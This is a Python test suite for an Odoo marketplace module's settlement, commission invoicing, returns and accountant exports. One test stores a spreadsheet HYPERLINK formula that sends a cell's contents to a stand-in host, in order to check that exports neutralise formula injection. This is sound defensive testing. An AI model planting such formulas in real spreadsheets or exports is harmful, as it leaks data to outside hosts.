import base64
import csv
import io
import subprocess
from unittest.mock import patch

from freezegun import freeze_time
from openpyxl import load_workbook

from odoo.addons.marketplace_base.tests.common import run_migration
from odoo.addons.marketplace_commission.models.marketplace_order_line import SETTLEMENT_STATUSES
from odoo.exceptions import AccessError, UserError
from odoo.tests import Form, TransactionCase, tagged

from .common import SettlementCommon


@tagged("post_install", "-at_install")
class TestSettlement(SettlementCommon, TransactionCase):
    """Monthly settlement: lines delivered, captured and past the withdrawal period, bought by a
    self-billed vendor bill, less the commission invoice with French VAT, through the real cron."""

    def test_withdrawal_period_then_bill_and_commission_invoice(self):
        member_order = self.sold({self.v39: 2, self.michael: 1}, "2026-11-02 10:00:00")
        self.assertFalse(self.settle("2026-11-15 10:00:00"), "delivered 13 days ago: still in the withdrawal period")
        settlement = self.settle("2026-11-17 10:00:00")
        self.assertEqual(len(settlement), 1, "delivered 15 days ago: settled")
        self.assertEqual(settlement.line_ids, member_order.line_ids)
        bill = self.moves(settlement, "in_invoice")
        invoice = self.moves(settlement, "out_invoice")
        self.assertEqual((bill.state, invoice.state), ("posted", "posted"))
        self.assertEqual(bill.partner_id, self.member_lyon.partner_id)
        self.assertEqual(bill.company_id, self.hub)
        # The member's sales, VAT included: 2 × 89.90 + 245.00; 20 % VAT inside.
        self.assertAlmostEqual(bill.amount_total, 424.80, places=2)
        self.assertAlmostEqual(bill.amount_tax, 70.80, places=2)
        # 12 % of each line (21.58 + 29.40 = 50.98), French VAT on top: 10.20.
        self.assertAlmostEqual(invoice.amount_untaxed, 50.98, places=2)
        self.assertAlmostEqual(invoice.amount_tax, 10.20, places=2)
        self.assertEqual(invoice.invoice_line_ids.tax_ids.mapped("tax_scope"), ["service"], "VAT on a service")
        self.assertTrue(all(bill.invoice_line_ids.tax_ids.mapped("price_include")), "TTC prices")
        self.assertAlmostEqual(settlement.payout, 424.80 - 61.18, places=2)
        self.assertEqual(bill.marketplace_settlement_id, settlement, "the invoices open their settlement")
        # Run again, later: nothing is settled twice.
        self.assertEqual(self.settle("2026-11-30 10:00:00"), settlement)

    def test_return_after_settlement_goes_to_the_next_one(self):
        member_order = self.sold({self.v39: 2}, "2026-11-02 10:00:00")
        first = self.settle("2026-11-17 10:00:00")
        line = member_order.line_ids
        with freeze_time("2026-11-20 10:00:00"):
            member_order._marketplace_return({line: 1}, "Trop petit")
        second = self.settle("2026-12-01 10:00:00") - first
        self.assertEqual(len(second), 1)
        self.assertFalse(second.line_ids, "no new sale")
        refund_bill = self.moves(second, "in_refund")
        refund_invoice = self.moves(second, "out_refund")
        self.assertAlmostEqual(refund_bill.amount_total, 89.90, places=2)
        self.assertAlmostEqual(refund_invoice.amount_untaxed, 10.79, places=2)
        self.assertAlmostEqual(second.payout, -(89.90 - 12.95), places=2)
        self.assertEqual(self.settle("2026-12-02 10:00:00"), first | second, "credited once")

    def test_everything_returned_after_settlement_credits_the_fixed_fee(self):
        """Issue 19, case 6: a sale settled with its fixed fee, then everything returned: the next
        settlement credits the commission and the fee (1,50 € HT charged for a sale that did not
        happen), once."""
        self.env["marketplace.commission.rule"].create({
            "name": "Accord Chaussures Lyon", "scope": "member", "member_id": self.member_lyon.id,
            "rate": 10.0, "fixed_fee": 1.5})
        member_order = self.sold({self.v39: 2}, "2026-11-02 10:00:00")
        first = self.settle("2026-11-17 10:00:00")
        # 10 % of 179,80 and the fee: 17,98 + 1,50 HT.
        self.assertAlmostEqual(self.moves(first, "out_invoice").amount_untaxed, 19.48, places=2)
        with freeze_time("2026-11-20 10:00:00"):
            member_order._marketplace_return({member_order.line_ids: 1}, "Trop petit")
        second = self.settle("2026-11-25 10:00:00") - first
        self.assertAlmostEqual(self.moves(second, "out_refund").amount_untaxed, 8.99, places=2,
                               msg="one pair of two back: its commission, the fee stays")
        with freeze_time("2026-11-26 10:00:00"):
            member_order._marketplace_return({member_order.line_ids: 1}, "Trop petit aussi")
        third = self.settle("2026-12-01 10:00:00") - first - second
        refund = self.moves(third, "out_refund")
        self.assertAlmostEqual(refund.amount_untaxed, 8.99 + 1.5, places=2, msg="the last pair and the fee")
        self.assertIn("Fixed fees credited — 1 orders", refund.invoice_line_ids.mapped("name"))
        self.assertAlmostEqual(third.payout, -(89.90 - (8.99 + 1.5) * 1.2), places=2)
        self.assertEqual(self.settle("2026-12-02 10:00:00"), first | second | third, "credited once")
        # Over the three settlements the member was charged nothing for a sale that did not happen.
        self.assertAlmostEqual(sum((first | second | third).mapped("payout")), 0.0, places=2)

    def test_one_commission_line_per_rate_and_the_highest_fixed_fee(self):
        """Issue 23: a member order whose lines fall under two rules (the brand's 8 % with a 1,00 fee,
        everything else 12 % with a 2,50 fee) is charged the highest fee once; the commission
        invoice has one line per rate, the lines of a rate summed."""
        Rule = self.env["marketplace.commission.rule"]
        Rule.create({"name": "Pataugas", "scope": "brand", "brand_id": self.brand.id, "rate": 8.0, "fixed_fee": 1.0})
        Rule.create({"name": "Toutes les ventes", "scope": "all", "rate": 12.0, "fixed_fee": 2.5})
        member_order = self.sold({self.v39: 1, self.v40: 1, self.michael: 1}, "2026-11-02 10:00:00")
        self.assertEqual(len(member_order), 1, "one store serves the three pairs")
        rates = {line.product_id: line.commission_rate for line in member_order.line_ids}
        self.assertEqual(rates, {self.v39: 8.0, self.v40: 8.0, self.michael: 12.0})
        self.assertAlmostEqual(member_order.commission_fee, 2.5, places=2, msg="the highest fee, once")
        settlement = self.settle("2026-11-17 10:00:00")
        invoice = self.moves(settlement, "out_invoice")
        lines = sorted((line.name, line.price_unit) for line in invoice.invoice_line_ids)
        self.assertEqual(len(lines), 3, lines)
        commission = {name.split(" — ")[0]: (name, price) for name, price in lines}
        self.assertEqual(commission["Commission 8.0 %"], ("Commission 8.0 % — 2 lines", 14.38))
        self.assertEqual(commission["Commission 12.0 %"], ("Commission 12.0 % — 1 lines", 29.4))
        fee_lines = [price for name, price in lines if not name.startswith("Commission")]
        self.assertEqual(fee_lines, [2.5])
        self.assertAlmostEqual(invoice.amount_untaxed, 14.38 + 29.40 + 2.50, places=2)

    def test_every_document_line_states_its_account(self):
        """Issue 19, cases 1 and 11: the member's sales go to purchases of goods (607), the
        commission to a service income account (706, Settings), their credit notes to the same
        accounts — whatever Odoo would guess from the partner's history (the member is both a
        customer and a vendor of the hub)."""
        member_order = self.sold({self.v39: 2}, "2026-11-02 10:00:00")
        first = self.settle("2026-11-17 10:00:00")
        with freeze_time("2026-11-20 10:00:00"):
            member_order._marketplace_return({member_order.line_ids: 1}, "Trop petit")
        second = self.settle("2026-12-01 10:00:00") - first
        documents = first.move_ids | second.move_ids
        self.assertEqual(sorted(documents.mapped("move_type")),
                         ["in_invoice", "in_refund", "out_invoice", "out_refund"])
        for move in documents:
            codes = set(move.invoice_line_ids.account_id.mapped("code"))
            expected = "607" if move.move_type in ("in_invoice", "in_refund") else "706"
            self.assertTrue(codes and all(code.startswith(expected) for code in codes),
                            f"{move.move_type}: {codes}, expected {expected}")
        # Settings choose the commission's account.
        other = self.env["account.account"].search([("code", "=like", "7082%"), ("company_ids", "in", self.hub.ids)],
                                                   limit=1)
        self.assertTrue(other)
        self.hub.marketplace_commission_account_id = other
        self.sold({self.v39: 1}, "2026-12-02 10:00:00")
        third = self.settle("2026-12-17 10:00:00") - first - second
        self.assertEqual(self.moves(third, "out_invoice").invoice_line_ids.account_id, other)

    def test_a_closed_member_is_settled_until_nothing_is_left(self):
        """Issue 19, case 3: a member closed with delivered, captured sales in their withdrawal
        period gets its payout once the period is over, and its returns' credit notes after
        that; no subscription once closed."""
        self.hub.marketplace_subscription_fee = 29.0
        member_order = self.sold({self.v39: 2}, "2026-11-02 10:00:00")
        with freeze_time("2026-11-05 10:00:00"):
            self.member_lyon.with_user(self.admin_user).action_marketplace_close()
        self.assertEqual(self.member_lyon.marketplace_state, "closed")
        settlement = self.settle("2026-11-17 10:00:00")
        self.assertEqual(settlement.line_ids, member_order.line_ids, "closed, yet paid what it sold")
        self.assertAlmostEqual(self.moves(settlement, "in_invoice").amount_total, 179.80, places=2)
        self.assertFalse(settlement.subscription_month, "no subscription once closed")
        self.assertAlmostEqual(settlement.payout, 179.80 - 25.90, places=2)
        with freeze_time("2026-11-20 10:00:00"):
            member_order._marketplace_return({member_order.line_ids: 1}, "Trop petit")
        credit = self.settle("2026-12-01 10:00:00") - settlement
        self.assertAlmostEqual(self.moves(credit, "in_refund").amount_total, 89.90, places=2)
        self.assertFalse(credit.subscription_month)
        self.assertEqual(self.settle("2027-01-01 10:00:00"), settlement | credit, "nothing left: nothing more")

    def test_a_capture_confirmed_later_is_settled(self):
        """Issue 19, case 4: the provider answers the capture *pending* and confirms it days
        later by its webhook: the leg follows its capture and the next settlement pays it."""
        with freeze_time("2026-11-02 10:00:00"):
            self.set_stock(self.store_lyon, {self.v39: 1})
            order, _transaction = self.order_paid({self.v39: 1}, customer=self.customer_lyon)
            member_order = order.marketplace_order_ids
            with self.pending_captures():
                self.ship(member_order, self.user_lyon, "6A000002")
            member_order.with_user(self.user_lyon).action_deliver()
        self.assertEqual(member_order.payment_state, "pending")
        self.assertFalse(self.settle("2026-11-17 10:00:00"), "not captured yet: waits")
        with freeze_time("2026-11-18 10:00:00"):
            capture = member_order.capture_transaction_id
            capture._set_done()
            capture._post_process()
        self.assertEqual(member_order.payment_state, "captured")
        settlement = self.settle("2026-11-19 10:00:00")
        self.assertEqual(settlement.line_ids, member_order.line_ids)
        self.assertAlmostEqual(self.moves(settlement, "in_invoice").amount_total, 89.90, places=2)

    def test_the_bill_pays_what_the_customer_paid_for_each_line(self):
        """Issue 19, case 10: two pairs 15 % off 179,80: the customer paid 152,83 for the line
        (76,415 a pair); the bill buys 152,83, not 2 × 76,42 = 152,84; a pair returned after
        the settlement is credited 76,42 and the member keeps 76,41: 152,83 in all."""
        with freeze_time("2026-11-02 10:00:00"):
            self.set_stock(self.store_lyon, {self.v39: 2})
            order = self.make_order({self.v39: 2, self.fee: 1}, customer=self.customer_lyon, confirm=False)
            order.order_line.filtered(lambda line: line.product_id == self.v39).discount = 15.0
            self.authorise(order)
            order.action_confirm()
            member_order = order.marketplace_order_ids
            self.ship(member_order, self.user_lyon, "6A000003")
            member_order.with_user(self.user_lyon).action_deliver()
        self.assertAlmostEqual(member_order.line_ids.amount, 152.83, places=2)
        first = self.settle("2026-11-17 10:00:00")
        self.assertAlmostEqual(self.moves(first, "in_invoice").amount_total, 152.83, places=2)
        self.assertAlmostEqual(self.moves(first, "out_invoice").amount_untaxed, 18.34, places=2,
                               msg="12 % of the same 152,83")
        with freeze_time("2026-11-20 10:00:00"):
            member_order._marketplace_return({member_order.line_ids: 1}, "Trop petit")
        second = self.settle("2026-12-01 10:00:00") - first
        self.assertAlmostEqual(self.moves(second, "in_refund").amount_total, 76.42, places=2)
        with freeze_time("2026-12-02 10:00:00"):
            member_order._marketplace_return({member_order.line_ids: 1}, "Trop petit aussi")
        third = self.settle("2026-12-05 10:00:00") - first - second
        self.assertAlmostEqual(self.moves(third, "in_refund").amount_total, 76.41, places=2,
                               msg="what is left of the line: every cent credited once")

    def test_pairs_returned_one_by_one_refund_what_the_bill_credits(self):
        """Issue 19 review: a line of three pairs paid 100,00 (33,333… a pair), returned one pair
        at a time after its settlement: the customer gets back 100,00 in all, as the member's
        bill is credited — each return is the line's amount shared, never the rounded unit price."""
        with freeze_time("2026-11-02 10:00:00"):
            self.set_stock(self.store_lyon, {self.v39: 3})
            order = self.make_order({self.v39: 3, self.fee: 1}, customer=self.customer_lyon, confirm=False)
            sale_line = order.order_line.filtered(lambda line: line.product_id == self.v39)
            sale_line.write({"price_unit": 111.11, "discount": 70.0})
            self.assertAlmostEqual(sale_line.price_total, 100.00, places=2)
            self.authorise(order)
            order.action_confirm()
            member_order = order.marketplace_order_ids
            self.ship(member_order, self.user_lyon, "6A000017")
            member_order.with_user(self.user_lyon).action_deliver()
        first = self.settle("2026-11-17 10:00:00")
        self.assertAlmostEqual(self.moves(first, "in_invoice").amount_total, 100.00, places=2)
        refunded = 0.0
        for day in ("2026-11-20", "2026-11-21", "2026-11-22"):
            with freeze_time(f"{day} 10:00:00"):
                refunded += member_order._marketplace_return({member_order.line_ids: 1}, "Trop petit")["refunded"]
        self.assertAlmostEqual(refunded, 100.00, places=2, msg="the customer got back what was paid")
        second = self.settle("2026-12-01 10:00:00") - first
        self.assertAlmostEqual(self.moves(second, "in_refund").amount_total, 100.00, places=2)

    @staticmethod
    def status(line):
        """The line's settlement status now (computed on each read, as each request of the
        screen does)."""
        line.invalidate_recordset(["settlement_status"])
        return line.settlement_status

    def test_a_hand_typed_order_settles_once_its_invoice_is_paid(self):
        """Issue 19, case 5: an order typed in by the hub (paid by bank transfer, no online
        payment), delivered by the member: it waits, saying why, until the customer's invoice
        is paid; then the member is paid for it."""
        with freeze_time("2026-11-02 10:00:00"):
            self.set_stock(self.store_lyon, {self.v39: 1})
            order = self.make_order({self.v39: 1}, customer=self.customer_lyon)
            member_order = order.marketplace_order_ids
            self.ship(member_order, self.user_lyon, "6A000004")
            member_order.with_user(self.user_lyon).action_deliver()
        self.assertEqual(member_order.payment_state, "none")
        line = member_order.line_ids
        with freeze_time("2026-11-17 10:00:00"):
            self.assertEqual(self.status(line), "unpaid")
        self.assertFalse(self.settle("2026-11-17 10:00:00"), "the customer has not paid yet")
        with freeze_time("2026-11-20 10:00:00"):
            invoice = order.with_company(self.hub)._create_invoices()
            invoice.action_post()
            self.assertEqual(self.status(line), "unpaid", "invoiced is not paid")
            self.env["account.payment.register"].with_company(self.hub).with_context(
                active_model="account.move", active_ids=invoice.ids).create({})._create_payments()
            self.assertIn(invoice.payment_state, ("paid", "in_payment"))
            self.assertEqual(self.status(line), "due")
        settlement = self.settle("2026-11-21 10:00:00")
        self.assertEqual(settlement.line_ids, line)
        self.assertAlmostEqual(self.moves(settlement, "in_invoice").amount_total, 89.90, places=2)
        self.assertEqual(self.status(line), "settled")

    def hand_typed_delivered(self, quantities, ref):
        """A hand-typed order (no online payment) delivered by Lyon on 2 November."""
        with freeze_time("2026-11-02 10:00:00"):
            self.set_stock(self.store_lyon, dict(quantities))
            order = self.make_order(quantities, customer=self.customer_lyon)
            member_order = order.marketplace_order_ids
            self.ship(member_order, self.user_lyon, ref)
            member_order.with_user(self.user_lyon).action_deliver()
        return order, member_order

    def pay_invoices(self, invoices, **values):
        self.env["account.payment.register"].with_company(self.hub).with_context(
            active_model="account.move", active_ids=invoices.ids).create(values)._create_payments()

    def test_a_hand_typed_order_with_a_return_settles_the_pair_kept(self):
        """Issue 19 review: the customer paid the invoice of two pairs and returned one in the
        withdrawal period (its credit note lowers Odoo's invoiced quantity): the pair kept is
        paid for, and the member is paid for it."""
        order, member_order = self.hand_typed_delivered({self.v39: 2}, "6A000014")
        with freeze_time("2026-11-03 10:00:00"):
            invoice = order.with_company(self.hub)._create_invoices()
            invoice.action_post()
            self.pay_invoices(invoice)
            self.assertEqual(invoice.payment_state, "paid")
        with freeze_time("2026-11-05 10:00:00"):
            result = member_order._marketplace_return({member_order.line_ids: 1}, "Trop petit")
        self.assertEqual(result["credit_note"].state, "posted")
        line = member_order.line_ids
        with freeze_time("2026-11-20 10:00:00"):
            self.assertEqual(self.status(line), "due")
        settlement = self.settle("2026-11-20 10:00:00")
        self.assertEqual(settlement.line_ids, line)
        self.assertAlmostEqual(self.moves(settlement, "in_invoice").amount_total, 89.90, places=2,
                               msg="the pair kept")

    def test_a_hand_typed_order_waits_for_every_pair_to_be_invoiced_and_paid(self):
        """Issue 19 review: a paid down payment with the final invoice still in draft, or an
        invoice paid by a cheque not yet cleared (*in payment*), is not the customer's money."""
        order, member_order = self.hand_typed_delivered({self.v39: 1}, "6A000015")
        line = member_order.line_ids
        with freeze_time("2026-11-03 10:00:00"):
            wizard = self.env["sale.advance.payment.inv"].with_company(self.hub).with_context(
                active_model="sale.order", active_ids=order.ids).create(
                {"advance_payment_method": "percentage", "amount": 10})
            wizard.create_invoices()
            down_payment = order.invoice_ids
            down_payment.action_post()
            self.pay_invoices(down_payment)
            self.assertEqual(down_payment.payment_state, "paid")
            final = order.with_company(self.hub)._create_invoices(final=True)
            self.assertEqual(final.state, "draft")
        with freeze_time("2026-11-20 10:00:00"):
            self.assertEqual(self.status(line), "unpaid", "the final invoice is a draft")
        self.assertFalse(self.settle("2026-11-20 10:00:00"))
        with freeze_time("2026-11-21 10:00:00"):
            final.action_post()
            # With Odoo's accounting app (Enterprise), a payment not matched with the bank yet
            # leaves the invoice *in payment*.
            with patch.object(type(self.env["account.move"]), "_get_invoice_in_payment_state",
                              lambda move: "in_payment"):
                self.pay_invoices(final)
                self.assertEqual(final.payment_state, "in_payment", "a cheque registered, not cleared")
            self.assertEqual(self.status(line), "unpaid", "a cheque may bounce")
        self.assertFalse(self.settle("2026-11-21 10:00:00"))

    def test_a_hand_typed_order_waits_for_its_down_payment(self):
        """Issue 19 review: a 50 % down payment invoiced and not paid, the final invoice (the
        pair less the down payment) paid: the customer paid half, the leg waits."""
        order, member_order = self.hand_typed_delivered({self.v39: 1}, "6A000018")
        with freeze_time("2026-11-03 10:00:00"):
            self.env["sale.advance.payment.inv"].with_company(self.hub).with_context(
                active_model="sale.order", active_ids=order.ids).create(
                {"advance_payment_method": "percentage", "amount": 50}).create_invoices()
            order.invoice_ids.action_post()
            final = order.with_company(self.hub)._create_invoices(final=True)
            final.action_post()
            self.pay_invoices(final)
            self.assertEqual(final.payment_state, "paid")
        with freeze_time("2026-11-20 10:00:00"):
            self.assertEqual(self.status(member_order.line_ids), "unpaid", "the down payment is not paid")

    def test_a_hand_typed_order_invoiced_again_after_a_credit_note_settles(self):
        """Issue 19 review: the first invoice cancelled by a credit note (Odoo: *reversed*), the
        pair invoiced again and paid: the customer paid, the leg settles."""
        order, member_order = self.hand_typed_delivered({self.v39: 1}, "6A000019")
        with freeze_time("2026-11-03 10:00:00"):
            first = order.with_company(self.hub)._create_invoices()
            first.action_post()
            first._reverse_moves(cancel=True)
            self.assertEqual(first.payment_state, "reversed")
            again = order.with_company(self.hub)._create_invoices()
            again.action_post()
            self.pay_invoices(again)
        with freeze_time("2026-11-20 10:00:00"):
            self.assertEqual(self.status(member_order.line_ids), "due")

    def test_the_settlement_screen_says_why_a_line_waits(self):
        """Issue 19, case 5: each line not settled says why: not delivered yet, payment not
        captured yet, in the withdrawal period, no self-billing agreement."""
        with freeze_time("2026-11-02 10:00:00"):
            self.set_stock(self.store_lyon, {self.v39: 2})
            order, _transaction = self.order_paid({self.v39: 1}, customer=self.customer_lyon)
            shipped = order.marketplace_order_ids
            self.ship(shipped, self.user_lyon, "6A000005")
        self.assertEqual(self.status(shipped.line_ids), "undelivered")
        delivered = self.sold({self.v39: 1}, "2026-11-03 10:00:00")
        with freeze_time("2026-11-10 10:00:00"):
            self.assertEqual(self.status(delivered.line_ids), "withdrawal")
            waiting = self.env["marketplace.order.line"].search([("settlement_status", "=", "withdrawal")])
            self.assertIn(delivered.line_ids, waiting, "searchable: the screen filters by reason")
        self.member_lyon.marketplace_self_billing_date = False
        with freeze_time("2026-11-20 10:00:00"):
            self.assertEqual(self.status(delivered.line_ids), "no_agreement")
        action = self.env["ir.actions.act_window"]._for_xml_id(
            "marketplace_commission.action_marketplace_settlement_waiting")
        self.assertEqual(action["res_model"], "marketplace.order.line")
        # A member reads the reason on its own lines.
        self.assertEqual(self.status(delivered.line_ids.with_user(self.user_lyon)), "no_agreement")
        # The search finds what each line says, whatever the reason.
        hand_typed = self.hand_typed_delivered({self.v38: 1}, "6A000016")[1]
        lines = shipped.line_ids | delivered.line_ids | hand_typed.line_ids
        Line = self.env["marketplace.order.line"].with_user(self.user_lyon)
        with freeze_time("2026-11-20 10:00:00"):
            statuses = {line: self.status(line) for line in lines}
            self.assertEqual(set(statuses.values()), {"undelivered", "no_agreement", "unpaid"})
            for status, _label in SETTLEMENT_STATUSES:
                for operator, expected in (("=", {line for line, st in statuses.items() if st == status}),
                                           ("!=", {line for line, st in statuses.items() if st != status})):
                    found = Line.search([("id", "in", lines.ids), ("settlement_status", operator, status)])
                    self.assertEqual(set(found.sudo()), expected, f"{operator} {status}")

    def test_uncaptured_and_undelivered_lines_wait(self):
        with freeze_time("2026-11-02 10:00:00"):
            self.set_stock(self.store_lyon, {self.v39: 1})
            order, _transaction = self.order_paid({self.v39: 1}, customer=self.customer_lyon)
            self.ship(order.marketplace_order_ids, self.user_lyon, "6A000001")
        self.assertFalse(self.settle("2026-12-01 10:00:00"), "shipped, not delivered")

    def test_subscription_once_a_month(self):
        self.hub.marketplace_subscription_fee = 29.0
        self.sold({self.v39: 1}, "2026-11-02 10:00:00")
        november = self.settle("2026-11-17 10:00:00")
        invoice = self.moves(november, "out_invoice")
        self.assertIn("Marketplace subscription 2026-11", invoice.invoice_line_ids.mapped("name"))
        self.assertAlmostEqual(invoice.amount_untaxed, 10.79 + 29.0, places=2)
        self.assertEqual(self.settle("2026-11-28 10:00:00"), november, "not twice in November")
        december = self.settle("2026-12-01 10:00:00") - november
        self.assertAlmostEqual(self.moves(december, "out_invoice").amount_untaxed, 29.0, places=2)
        self.assertAlmostEqual(december.payout, -34.80, places=2)

    def test_subscription_month_and_date_are_the_hubs(self):
        """Issue 19, case 11: a settlement run at 00:30 on 1 December in Paris (23:30 UTC on 30
        November) invoices December's subscription and is dated 1 December."""
        self.hub.marketplace_subscription_fee = 29.0
        december = self.settle("2026-11-30 23:30:00")
        self.assertEqual(december.subscription_month, "2026-12")
        self.assertEqual(str(december.date), "2026-12-01")
        self.assertEqual(str(self.moves(december, "out_invoice").invoice_date), "2026-12-01")
        self.assertEqual(self.settle("2026-12-31 22:30:00"), december, "31 December in Paris: December still")

    def test_who_reads_and_runs_settlements(self):
        self.sold({self.v39: 1}, "2026-11-02 10:00:00")
        settlement = self.settle("2026-11-17 10:00:00")
        Settlement = self.env["marketplace.settlement"]
        self.assertEqual(Settlement.with_user(self.user_lyon).search([]), settlement)
        self.assertFalse(Settlement.with_user(self.user_marseille).search([]))
        with self.assertRaises(AccessError):
            settlement.with_user(self.user_marseille).read(["payout"])
        with self.assertRaises(AccessError):
            settlement.with_user(self.user_lyon).write({"payout": 0})
        with self.assertRaises(UserError):
            Settlement.with_user(self.animator_user).action_marketplace_settle()
        action = Settlement.with_user(self.admin_user).action_marketplace_settle()
        self.assertEqual(action["params"]["next"]["res_model"], "marketplace.settlement")

    # ------------------------------------------------------------------ export
    def test_accountants_export_never_writes_a_formula(self):
        """Issue 19, case 11: a partner named like a spreadsheet formula is written as text in the
        CSV and the XLSX (neutralised as the référencier export does: one helper for both)."""
        self.sold({self.v39: 1}, "2026-11-02 10:00:00")
        settlement = self.settle("2026-11-17 10:00:00")
        formula = '=HYPERLINK("http://exemple.invalid/?d="&A1,"Voir")'
        settlement.move_ids.partner_id.name = formula
        accountant = self.env["res.users"].create({
            "name": "Comptable", "login": "comptable", "company_id": self.hub.id, "company_ids": [(6, 0, self.hub.ids)],
            "groups_id": [(6, 0, [self.env.ref("account.group_account_invoice").id])]})
        Export = self.env["marketplace.invoice.export"].with_user(accountant)
        wizard = Export.create({"date_from": "2026-11-01", "date_to": "2026-11-30", "file_format": "xlsx"})
        wizard.action_export()
        rows = list(load_workbook(io.BytesIO(base64.b64decode(wizard.file))).active.iter_rows(values_only=True))
        self.assertEqual({row[4] for row in rows[1:]}, {"'" + formula})
        wizard = Export.create({"date_from": "2026-11-01", "date_to": "2026-11-30", "file_format": "csv"})
        wizard.action_export()
        lines = list(csv.reader(io.StringIO(base64.b64decode(wizard.file).decode("utf-8-sig")), delimiter=";"))
        self.assertEqual({line[4] for line in lines[1:]}, {"'" + formula})

    def test_accountants_export_matches_the_invoices(self):
        member_order = self.sold({self.v39: 2, self.michael: 1}, "2026-11-02 10:00:00")
        first = self.settle("2026-11-17 10:00:00")
        with freeze_time("2026-11-20 10:00:00"):
            member_order._marketplace_return({member_order.line_ids[:1]: 1}, "Trop petit")
        second = self.settle("2026-11-25 10:00:00") - first
        moves = (first | second).move_ids
        self.assertEqual(sorted(moves.mapped("move_type")), ["in_invoice", "in_refund", "out_invoice", "out_refund"])
        accountant = self.env["res.users"].create({
            "name": "Comptable", "login": "comptable", "company_id": self.hub.id, "company_ids": [(6, 0, self.hub.ids)],
            "groups_id": [(6, 0, [self.env.ref("account.group_account_invoice").id])]})
        Export = self.env["marketplace.invoice.export"].with_user(accountant)
        signed = {"untaxed": 0.0, "tax_amount": 0.0, "total": 0.0}
        for move in moves:
            sign = -1 if move.move_type in ("in_refund", "out_refund") else 1
            signed["untaxed"] += sign * move.amount_untaxed
            signed["tax_amount"] += sign * move.amount_tax
            signed["total"] += sign * move.amount_total
        # XLSX
        wizard = Export.create({"date_from": "2026-11-01", "date_to": "2026-11-30", "file_format": "xlsx"})
        action = wizard.action_export()
        self.assertIn("download=true", action["url"])
        sheet = load_workbook(io.BytesIO(base64.b64decode(wizard.file))).active
        rows = list(sheet.iter_rows(values_only=True))
        self.assertEqual(rows[0], ("Date", "Number", "Journal", "Member Code", "Partner", "Account", "Tax",
                                   "Untaxed Amount", "Tax Amount", "Total"))
        body = rows[1:]
        self.assertEqual(len(body), len(moves.invoice_line_ids))
        self.assertEqual({row[1] for row in body}, set(moves.mapped("name")))
        self.assertEqual({row[3] for row in body}, {self.member_lyon.marketplace_member_code})
        for column, name in ((7, "untaxed"), (8, "tax_amount"), (9, "total")):
            self.assertAlmostEqual(sum(row[column] for row in body), signed[name], places=2)
        # CSV, same rows
        wizard = Export.create({"date_from": "2026-11-01", "date_to": "2026-11-30", "file_format": "csv"})
        wizard.action_export()
        lines = list(csv.reader(io.StringIO(base64.b64decode(wizard.file).decode("utf-8-sig")), delimiter=";"))
        self.assertEqual(len(lines) - 1, len(body))
        self.assertAlmostEqual(sum(float(line[9]) for line in lines[1:]), signed["total"], places=2)
        # Another period: nothing
        wizard = Export.create({"date_from": "2026-10-01", "date_to": "2026-10-31", "file_format": "csv"})
        wizard.action_export()
        self.assertEqual(len(base64.b64decode(wizard.file).decode("utf-8-sig").splitlines()), 1)
        # Odoo's legal file still runs and holds the settlements' entries.
        fec = self.env["l10n_fr.fec.export.wizard"].with_company(self.hub).create(
            {"date_from": "2026-11-01", "date_to": "2026-11-30", "test_file": True}).generate_fec()
        content = fec["file_content"].decode()
        for move in moves:
            self.assertIn(move.name, content)

    # --------------------------------------------------------------- documents
    def test_member_downloads_its_documents(self):
        member_order = self.sold({self.v39: 1}, "2026-11-02 10:00:00")
        settlement = self.settle("2026-11-17 10:00:00")
        mine = settlement.with_user(self.user_lyon)
        statement = mine.marketplace_document("statement")
        html = base64.b64decode(statement["content"]).decode()
        self.assertIn(member_order.name, html)
        self.assertIn("12.00 %", html)
        for kind, move_type in (("bill", "in_invoice"), ("invoice", "out_invoice")):
            document = mine.marketplace_document(kind)
            move = self.moves(settlement, move_type)
            self.assertEqual(document["filename"].rsplit(".", 1)[0], move.name.replace("/", "-"))
            self.assertIn(move.name, base64.b64decode(document["content"]).decode())
        self.assertEqual(mine.action_download_bill()["url"], f"/marketplace/settlement/{settlement.id}/bill")
        with self.assertRaises(AccessError):
            settlement.with_user(self.user_marseille).marketplace_document("statement")
        with self.assertRaisesRegex(UserError, "Unknown document"):
            mine.marketplace_document("payslip")

    def test_documents_print_as_real_pdfs(self):
        """Outside tests Odoo prints with wkhtmltopdf (under test it falls back to HTML): the
        statement, the bill and the invoice are real PDFs, their text read back."""
        member_order = self.sold({self.v39: 1}, "2026-11-02 10:00:00")
        settlement = self.settle("2026-11-17 10:00:00")
        mine = settlement.with_user(self.user_lyon).with_context(force_report_rendering=True)
        expected = {"statement": member_order.name, "bill": self.moves(settlement, "in_invoice").name,
                    "invoice": self.moves(settlement, "out_invoice").name}
        read_back = {}
        for kind, text in expected.items():
            document = mine.marketplace_document(kind)
            self.assertEqual((document["mimetype"], document["filename"][-4:]), ("application/pdf", ".pdf"), kind)
            content = base64.b64decode(document["content"])
            self.assertEqual(content[:5], b"%PDF-", kind)
            read_back[kind] = subprocess.run(["pdftotext", "-layout", "-", "-"], input=content,  # noqa: S607
                                             capture_output=True, check=True).stdout.decode()
            self.assertIn(text, read_back[kind], kind)
        self.assertIn("Autofacturation", read_back["bill"], "the self-billed bill says so")

    def test_self_billing_needs_the_members_agreement(self):
        """Issue 19, case 9: the hub bills on the member's behalf only once the member accepted
        self-billing (its date on the member); without it the member waits and the
        administrator who settles is told."""
        self.member_lyon.marketplace_self_billing_date = False
        member_order = self.sold({self.v39: 1}, "2026-11-02 10:00:00")
        with freeze_time("2026-11-17 10:00:00"):
            action = self.env["marketplace.settlement"].with_user(self.admin_user).action_marketplace_settle()
        self.assertFalse(self.env["marketplace.settlement"].search([("member_id", "=", self.member_lyon.id)]))
        self.assertEqual(action["tag"], "display_notification")
        self.assertIn(self.member_lyon.name, action["params"]["message"])
        self.assertIn("self-billing", action["params"]["message"])
        self.assertEqual(action["params"]["next"]["res_model"], "marketplace.settlement")
        # A member cannot record the agreement itself.
        with self.assertRaises(UserError):
            self.member_lyon.with_user(self.user_lyon).write({"marketplace_self_billing_date": "2026-11-18"})
        self.member_lyon.with_user(self.admin_user).marketplace_self_billing_date = "2026-11-18"
        settlement = self.settle("2026-11-19 10:00:00")
        self.assertEqual(settlement.line_ids, member_order.line_ids)

    def test_the_bill_is_a_self_billed_invoice_of_the_member(self):
        """Issue 19, case 9: the purchase document says "Autofacturation" (CGI art. 242 nonies A)
        and shows the member as the seller, with its identifiers and its agreement."""
        self.member_lyon.write({"company_registry": "33417522100012", "vat": "FR23334175221"})
        self.sold({self.v39: 1}, "2026-11-02 10:00:00")
        settlement = self.settle("2026-11-17 10:00:00")
